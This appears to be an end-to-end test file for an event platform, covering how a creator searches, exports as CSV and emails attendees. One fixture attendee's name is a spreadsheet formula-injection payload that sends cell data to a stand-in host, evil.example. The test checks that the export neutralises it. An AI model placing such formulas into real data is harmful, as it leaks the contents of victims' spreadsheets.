import { readFile } from 'node:fs/promises';
import type { APIRequestContext, Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { expectAccessible } from './support/accessibility';
import { newVisitor, openApi, uniqueEmail } from './support/browser';
import { launchBrowser } from './support/chromium';
import { eventWithSales, registerByApi, ticketHolder } from './support/factories';
import { eventCard, expectToast, person } from './support/fixtures';
import { mailTo, watchLinkIn } from './support/mail';

let browser: Browser;
let api: APIRequestContext;
beforeAll(async () => {
  browser = await launchBrowser();
  api = await openApi();
});
afterAll(async () => {
  await api.dispose();
  await browser.close();
});

describe('the attendees of an event', () => {
  it('a creator searches them, downloads them as CSV, and writes to them; the fans get the mail', async () => {
    const eventName = `Jazz Night ${Date.now().toString(36)}`;
    const { event, creator } = await eventWithSales(api, {
      creator: await registerByApi(api, 'creator', person('Lena', 'Stage')),
      name: eventName,
    });
    const { fan: fabio } = await ticketHolder(api, { event, fan: person('Fabio', 'Fan'), quantity: 2 });
    // A name written to be run by a spreadsheet, with a quote, a comma and a line break for good measure.
    const { fan: mallory } = await ticketHolder(api, {
      event,
      fan: {
        firstName: '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
        lastName: 'Doe, "Jr"',
        email: uniqueEmail('mallory'),
      },
    });

    // From My Events, where the event's other actions are.
    const { page } = await newVisitor(browser, { signedInAs: creator });
    await page.goto('/creators/dashboard/my-events');
    await eventCard(page, eventName).getByRole('link', { name: 'Attendees' }).click();
    await page.waitForURL(`**/creators/dashboard/events/${event.id}/attendees`);
    const table = page.getByRole('table', { name: 'Attendees' });
    await table.getByRole('row').nth(2).waitFor();
    expect(await table.getByRole('row').allInnerTexts()).toEqual([
      expect.stringMatching(/^Name\s+Email\s+Tickets\s+Ordered\s+Status$/),
      expect.stringMatching(
        new RegExp(`^=HYPERLINK.*Doe, "Jr"\\s+${mallory.email}\\s+1\\s+.+\\s+Confirmed$`),
      ),
      expect.stringMatching(new RegExp(`^Fabio Fan\\s+${fabio.email}\\s+2\\s+.+\\s+Confirmed$`)),
    ]);
    await expectAccessible(page, 'attendees');

    // Searched as the creator types: Fabio by his email.
    const search = page.getByRole('searchbox', { name: 'Search' });
    await search.fill(fabio.email.toUpperCase());
    await expect.poll(() => table.getByRole('row').count()).toBe(2);
    expect(await table.getByRole('row').nth(1).innerText()).toContain('Fabio Fan');
    await search.fill('');
    await expect.poll(() => table.getByRole('row').count()).toBe(3);

    // The CSV, fetched with the creator's token and saved by the browser.
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'Download CSV' }).click(),
    ]);
    expect(download.suggestedFilename()).toMatch(
      new RegExp(`^attendees-jazz-night-[a-z0-9]+-${event.id}\\.csv$`),
    );
    const csv = await readFile(await download.path(), 'utf8');
    const rows = csv.split('\r\n');
    expect(rows[0]).toBe('orderId,name,email,tickets,type,orderedAt,status');
    // The hostile name is a quoted text cell that starts with a quote mark: no formula runs.
    expect(rows[1]).toMatch(
      new RegExp(
        `^\\d+,"'=HYPERLINK\\(""https://evil\\.example/\\?leak=""&A1,""Click""\\) Doe, ""Jr""",${mallory.email},1,General admission,\\S+Z,completed$`,
      ),
    );
    expect(rows[2]).toMatch(
      new RegExp(`^\\d+,Fabio Fan,${fabio.email},2,General admission,\\S+Z,completed$`),
    );
    expect(rows.slice(3)).toEqual(['']);

    // Message attendees: written, previewed as the fans get it, confirmed, sent.
    await page.getByRole('button', { name: 'Message attendees' }).click();
    const dialog = page.getByRole('dialog', { name: 'Message attendees' });
    await dialog.getByLabel('Subject').fill('Doors open at 6:30');
    await dialog.getByLabel('Message').fill('Come early for the soundcheck.\n\nSee you there!');
    await expectAccessible(page, 'message attendees');
    await dialog.getByRole('button', { name: 'Preview' }).click();
    const mail = dialog.frameLocator('iframe[title="The email"]');
    await mail.getByText('Come early for the soundcheck.').waitFor();
    expect(await mail.getByRole('link', { name: 'Go to the show' }).getAttribute('href')).toContain(
      `/events/${event.id}/stream`,
    );
    await dialog.getByRole('button', { name: 'Continue' }).click();
    await dialog
      .getByText('Send “Doors open at 6:30” to 2 fans? It cannot be taken back once sent.')
      .waitFor();
    await dialog.getByRole('button', { name: 'Send to 2 fans' }).click();
    await expectToast(page, 'Message sent to 2 fans.');
    await dialog.waitFor({ state: 'hidden' });

    // Each fan's mailbox has it, with their own link to the show.
    const subject = `${eventName}: Doors open at 6:30`;
    for (const fan of [fabio, mallory]) {
      const received = await mailTo(fan.email, subject);
      expect(received.text).toContain(`Lena Stage wrote to everyone with a ticket to ${eventName}`);
      expect(received.text).toContain('Come early for the soundcheck.\n\nSee you there!');
      expect(received.html).toContain('Come early for the soundcheck.');
      expect(watchLinkIn(received)).toMatch(/\/watch\/[A-Za-z0-9_-]{40,}$/);
    }
  });
});
